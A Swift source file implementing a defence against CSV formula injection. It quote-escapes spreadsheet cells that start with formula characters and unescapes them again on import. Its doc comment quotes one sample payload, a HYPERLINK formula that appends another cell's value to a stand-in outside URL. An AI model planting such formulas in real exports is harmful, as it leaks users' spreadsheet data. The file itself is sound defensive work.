/// Keeps a text cell of a CSV file from being run as a formula when a spreadsheet opens it
/// (CSV injection): a value a clerk typed as `=HYPERLINK("http://x?"&A2,"De Coster")` must show
/// as that text, not as a live link.
///
/// Following OWASP's advice, a text that starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return is written with a single quote before it, which spreadsheets show as text. Numbers
/// (`-3`, `18,5`, `-0.25`) stay as they are. Reading takes the quote off again, so an export
/// read back by an import gives the same value. A text that itself starts with quotes before
/// such a character gets one more, so that the round trip holds for every text.
///
/// ```swift
/// SpreadsheetText.escaped("=1+1")       // "'=1+1"
/// SpreadsheetText.escaped("-3")         // "-3"
/// SpreadsheetText.unescaped("'=1+1")    // "=1+1"
/// ```
public enum SpreadsheetText {
    /// The characters a spreadsheet reads as the start of a formula.
    public static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]

    /// `text` as written in a cell: with a leading quote when a spreadsheet would run it.
    public static func escaped(_ text: String) -> String {
        needsQuote(Substring(text)) ? "'" + text : text
    }

    /// The value a cell written by `escaped` holds: its leading quote taken off when it was added.
    public static func unescaped(_ cell: String) -> String {
        cell.first == "'" && needsQuote(cell.dropFirst()) ? String(cell.dropFirst()) : cell
    }

    private static func needsQuote(_ text: Substring) -> Bool {
        guard let first = text.first else { return false }
        if first == "'" { return needsQuote(text.dropFirst()) }
        return formulaStarts.contains(first) && !isNumber(text)
    }

    /// A signed decimal number: `-3`, `+4`, `-18,5`, `-0.25`.
    private static func isNumber(_ text: Substring) -> Bool {
        var digits = text.drop { $0 == "-" || $0 == "+" }
        guard text.count - digits.count == 1, !digits.isEmpty else { return false }
        if let separator = digits.firstIndex(where: { $0 == "." || $0 == "," }) {
            let fraction = digits[digits.index(after: separator)...]
            guard !fraction.isEmpty, fraction.allSatisfy({ $0.isASCII && $0.isNumber }) else { return false }
            digits = digits[..<separator]
        }
        return !digits.isEmpty && digits.allSatisfy { $0.isASCII && $0.isNumber }
    }
}
